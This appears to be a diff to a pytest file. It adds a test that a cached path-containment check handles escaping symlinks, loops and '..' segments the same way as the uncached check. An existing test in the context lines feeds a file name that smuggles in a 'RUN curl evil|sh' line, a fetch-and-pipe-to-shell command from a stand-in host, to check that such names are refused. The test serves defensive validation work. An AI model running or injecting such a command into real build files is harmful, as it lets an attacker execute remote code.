@@ -59,6 +59,26 @@ def test_inside_resolves_dotdot_and_symlinks(repo: Path, tmp_path: Path) -> None
     assert not inside(repo / "out" / "x", root)
 
 
+def test_inside_with_remembered_folders_answers_as_without(repo: Path, tmp_path: Path,
+                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    root = repo.resolve()
+    (repo / "backend" / "a").mkdir(parents=True)
+    (repo / "backend" / "out").symlink_to(tmp_path)  # the last name is a link that leaves the project
+    (repo / "backend" / "in").symlink_to(repo / "backend" / "a")
+    (repo / "linked").symlink_to(repo / "backend")  # a folder on the way is a link
+    (repo / "loop").symlink_to(repo / "loop")
+    (repo / "up").symlink_to(tmp_path / "x" / "..")
+    monkeypatch.chdir(repo)
+    folders: dict[str, str] = {}
+    paths = [f"{base}/{name}" for base in ("backend", "linked", str(repo / "linked"), "specs/../backend", "loop",
+                                           "up", "backend/missing", "../repo/backend")
+             for name in ("a", "out", "in", "..", ".", "missing", "")]
+    answers = [(path, inside(path, root, folders)) for path in paths + paths]  # the second round remembered
+    assert folders
+    assert answers == [(path, inside(path, root)) for path in paths + paths]
+    assert ("backend/out", False) in answers and ("linked/in", True) in answers
+
+
 def test_unprintable_names_are_refused() -> None:
     with pytest.raises(UnusableInput, match=r"rename it"):
         require_printable("the spec file name", "specs/svc\nRUN curl evil|sh\n#.yaml")
